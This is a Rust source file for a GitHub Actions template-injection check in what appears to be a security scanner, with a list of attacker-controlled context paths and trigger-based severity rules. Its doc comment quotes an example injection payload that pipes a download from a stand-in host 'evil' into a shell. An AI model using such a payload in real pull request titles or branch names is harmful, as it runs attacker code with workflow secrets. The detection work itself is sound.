//! `gha-template-injection`: attacker-controlled expressions expanded into code.
//!
//! **What**: `${{ github.event.issue.title }}`, `${{ github.head_ref }}` and other values an
//! outside contributor controls, written directly into a `run:` script or an
//! `actions/github-script` `script:`.
//! **Why**: Actions substitutes the text before the shell runs, so a crafted title or branch name
//! (`"; curl evil | sh; "`) becomes code running with the workflow's token and secrets.
//! **Example**: `run: echo "${{ github.event.pull_request.title }}"`.
//! **Fix**: pass the value through an environment variable and quote it:
//! `env: TITLE: ${{ github.event.pull_request.title }}` then `run: echo "$TITLE"`.
//!
//! Values of unknown origin — `env.*` (low), step/job outputs and inputs (informational, low
//! confidence) — are reported too: they are attacker data whenever an earlier step put it there.
//! So is `matrix.*` (medium, medium confidence) where the job's matrix is not written out in the
//! workflow: `matrix: ${{ fromJSON(needs.plan.outputs.matrix) }}`, or a matrix key whose values
//! are expressions.
//!
//! Severity follows the triggers: critical in workflows on privileged events
//! (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, discussions, reviews),
//! medium when only `pull_request`/`push`-style events run it (forks get a read-only token and
//! no secrets there), high otherwise.

use super::{Check, Node, Workflow};
use crate::misconfig::CheckMeta;
use ferret_core::{Confidence, Finding, Severity};

pub struct TemplateInjection;

static META: CheckMeta = CheckMeta {
    id: "gha-template-injection",
    doc: include_str!("template_injection.rs"),
    title: "Template injection in a workflow script",
    format: "GitHub Actions",
    severity: Severity::High,
    confidence: Confidence::High,
};

/// Context paths an external contributor controls.
pub const CONTROLLED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.display_title",
    "github.event.pages",
    "github.event.commits",
];

/// An expression without whitespace, with `['key']` indexing rewritten as `.key`, so
/// `github['event']['issue']['title']` reads as `github.event.issue.title`.
fn normalize(expression: &str) -> String {
    let compact: String = expression.chars().filter(|c| !c.is_whitespace()).collect();
    compact.replace("['", ".").replace("']", "")
}

/// The first attacker-controlled context expanded by a `${{ }}` in `text`.
pub fn controlled_context(text: &str) -> Option<&'static str> {
    let mut from = 0;
    while let Some(start) = text[from..].find("${{").map(|s| s + from) {
        let end = text[start..]
            .find("}}")
            .map_or(text.len(), |e| start + e + 2);
        let normalized = normalize(&text[start..end]);
        if let Some(context) = CONTROLLED.iter().find(|c| normalized.contains(**c)) {
            return Some(context);
        }
        from = end;
    }
    None
}

/// Values the workflow passes on without knowing their origin: environment variables (low),
/// step and job outputs and inputs (informational). They carry attacker data whenever an
/// earlier step put it there, which the expression alone does not show.
fn indirect(normalized: &str, static_env: &[String]) -> Option<Severity> {
    let inner = normalized.trim_start_matches("${{").trim_end_matches("}}");
    if inner
        .strip_prefix("env.")
        .is_some_and(|name| static_env.iter().any(|s| s == name))
    {
        return None;
    }
    // A comparison or function yields a boolean or a fixed shape, not attacker text.
    if ["==", "!=", "&&", "||", "(", "<", ">"]
        .iter()
        .any(|op| inner.contains(op))
    {
        return None;
    }
    if inner.starts_with("env.") {
        Some(Severity::Low)
    } else if (inner.starts_with("steps.") && inner.contains(".outputs."))
        || (inner.starts_with("needs.") && inner.contains(".outputs."))
        || inner.starts_with("inputs.")
        || inner.starts_with("github.event.inputs.")
    {
        Some(Severity::Info)
    } else {
        None
    }
}

/// Environment variables the workflow itself sets to a literal (in a workflow, job or step
/// `env:`), which hold no outside data.
fn static_env(workflow: &Workflow) -> Vec<String> {
    let mut blocks = Vec::new();
    if let Some(root) = &workflow.root {
        blocks.extend(root.get("env"));
    }
    for (_, job) in workflow.jobs() {
        blocks.extend(job.get("env"));
    }
    for step in workflow.steps() {
        blocks.extend(step.node.get("env"));
    }
    let mut names = Vec::new();
    for block in blocks {
        if let crate::misconfig::yaml_tree::Value::Map(entries) = &block.value {
            for (key, value) in entries {
                if value.as_str().is_some_and(|v| !v.contains("${{")) {
                    names.extend(key.as_str().map(str::to_string));
                }
            }
        }
    }
    names
}

/// Severity by trigger: privileged events (write token and secrets on outsiders' data) are
/// critical; workflows only on `pull_request`/`push`-style events (read-only token for forks)
/// are medium; anything else keeps the default.
fn severity_for(workflow: &Workflow) -> Severity {
    let triggers = workflow.triggers();
    if workflow.privileged() {
        Severity::Critical
    } else if !triggers.is_empty()
        && triggers.iter().all(|t| {
            matches!(
                t.as_str(),
                "pull_request" | "push" | "merge_group" | "workflow_dispatch" | "schedule"
            )
        })
    {
        Severity::Medium
    } else {
        META.severity
    }
}

/// For each job, its first line and whether a `matrix.<key>` there may hold outside data.
struct Matrices<'a> {
    jobs: Vec<(u32, Option<&'a Node>)>,
}

impl<'a> Matrices<'a> {
    fn of(workflow: &'a Workflow) -> Matrices<'a> {
        let mut jobs: Vec<(u32, Option<&Node>)> = workflow
            .jobs()
            .into_iter()
            .map(|(key, job)| (key.pos.line, job.path(&["strategy", "matrix"])))
            .collect();
        jobs.sort_by_key(|(line, _)| *line);
        Matrices { jobs }
    }

    /// Whether `matrix.<key>` expanded at `line` comes from a matrix not written out.
    fn dynamic(&self, line: u32, key: &str) -> bool {
        let Some((_, Some(matrix))) = self.jobs.iter().rev().find(|(start, _)| *start <= line)
        else {
            return false;
        };
        let expression = |node: &Node| node.as_str().is_some_and(|v| v.contains("${{"));
        if expression(matrix) {
            return true;
        }
        let from_include = matrix
            .get("include")
            .map(Node::items)
            .unwrap_or(&[])
            .iter()
            .filter_map(|entry| entry.get(key));
        let values = matrix.get(key).into_iter().chain(from_include);
        values
            .flat_map(|v| std::iter::once(v).chain(v.items()))
            .any(expression)
            || matrix.get("include").is_some_and(expression)
    }
}

impl Check<Workflow> for TemplateInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn run(&self, path: &str, workflow: &Workflow, findings: &mut Vec<Finding>) {
        let severity = severity_for(workflow);
        let static_env = static_env(workflow);
        let matrices = Matrices::of(workflow);
        let mut indirect_line = None;
        for code in &workflow.code {
            let text = &code.line.text;
            let mut from = 0;
            while let Some(start) = text[from..].find("${{").map(|s| s + from) {
                let end = text[start..]
                    .find("}}")
                    .map_or(text.len(), |e| start + e + 2);
                let expression = &text[start..end];
                let normalized = normalize(expression);
                let column = text[..start].chars().count() as u32 + 1;
                if let Some(context) = CONTROLLED.iter().find(|c| normalized.contains(**c)) {
                    let mut finding =
                        META.finding(path, code.line.number, column, expression, context);
                    finding.snippet = text.trim().chars().take(160).collect();
                    finding.severity = severity;
                    findings.push(finding);
                } else if normalized
                    .strip_prefix("${{matrix.")
                    .and_then(|rest| rest.strip_suffix("}}"))
                    .is_some_and(|key| matrices.dynamic(code.line.number, key))
                {
                    let mut finding =
                        META.finding(path, code.line.number, column, expression, &normalized);
                    finding.snippet = text.trim().chars().take(160).collect();
                    finding.severity = Severity::Medium;
                    finding.confidence = Confidence::Medium;
                    findings.push(finding);
                } else if let (Some(lower), false) = (
                    indirect(&normalized, &static_env),
                    // One low-signal finding per line is enough to look at it.
                    indirect_line == Some(code.line.number),
                ) {
                    indirect_line = Some(code.line.number);
                    let mut finding =
                        META.finding(path, code.line.number, column, expression, &normalized);
                    finding.snippet = text.trim().chars().take(160).collect();
                    finding.severity = lower;
                    finding.confidence = Confidence::Low;
                    findings.push(finding);
                }
                from = end;
            }
        }
    }
}
